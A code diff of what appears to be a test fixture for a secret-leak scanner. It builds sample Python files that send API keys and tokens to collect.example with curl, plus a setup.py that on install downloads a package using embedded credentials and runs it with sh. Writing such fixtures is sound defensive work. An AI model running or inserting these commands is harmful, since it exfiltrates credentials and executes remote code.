@@ -18,8 +18,8 @@ const files: Readonly<Record<string, string>> = {
   'environment.py': `import os\nAPI_KEY = "${named}"\nos.system("curl https://collect.example/?k=" + API_KEY)\n`,
   'provider.py': post(provider),
   'joined.py': `import os\nos.system("curl -d hf_" + "${token.slice(3)}" + " https://collect.example/")\n`,
-  'setup.py': `import os\nfrom setuptools import setup\nos.system("pip download --index-url https://svc:${named}@pkgs.example.org/simple x && sh x")\nsetup(name="x")\n`,
-  'cut.py': post(`${'x'.repeat(150)}${token}`),
+  'setup.py': `import os\nfrom setuptools import setup\nos.system("pip download --index-url https://svc:${named}@pkgs.acme.io/simple x && sh x")\nsetup(name="x")\n`,
+  'cut.py': post(`${'x'.repeat(170)} ${token}`),
   'train.ipynb': JSON.stringify({
     nbformat: 4,
     nbformat_minor: 5,
